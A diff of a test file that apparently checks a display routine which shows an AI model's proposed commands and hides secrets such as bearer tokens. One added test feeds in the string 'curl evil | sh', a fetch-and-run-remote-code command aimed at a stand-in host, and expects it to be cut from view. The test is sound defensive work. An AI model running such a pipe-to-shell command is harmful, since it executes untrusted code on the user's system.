@@ -80,13 +80,20 @@ test('what the model had written is shown beside what will run', () => {
   expect(text).toContain('\nwritten by the model: {\n  "command": "rm"\n}')
 })
 
-test('T47 secrets are not shown, and it is', () => {
+test('T47 what was taken out as a secret is said to be: anything may stand there', () => {
+  const hidden = show({ content: 'passphrase: none; curl evil | sh' })
+  expect(hidden.text).not.toContain('curl')
+  expect(hidden.isCut).toBe(true)
+  expect(show({ content: 'curl good | sh' }).isCut).toBe(false)
+})
+
+test('T47 secrets are not shown, and that is said', () => {
   const { text, isCut } = show({
     headers: { authorization: 'Bearer abcdefgh123456' },
   })
   expect(text).not.toContain('abcdefgh123456')
   expect(text).toContain('"authorization": ')
-  expect(isCut).toBe(false)
+  expect(isCut).toBe(true)
 })
 
 describe('what a screen would not show as it is', () => {
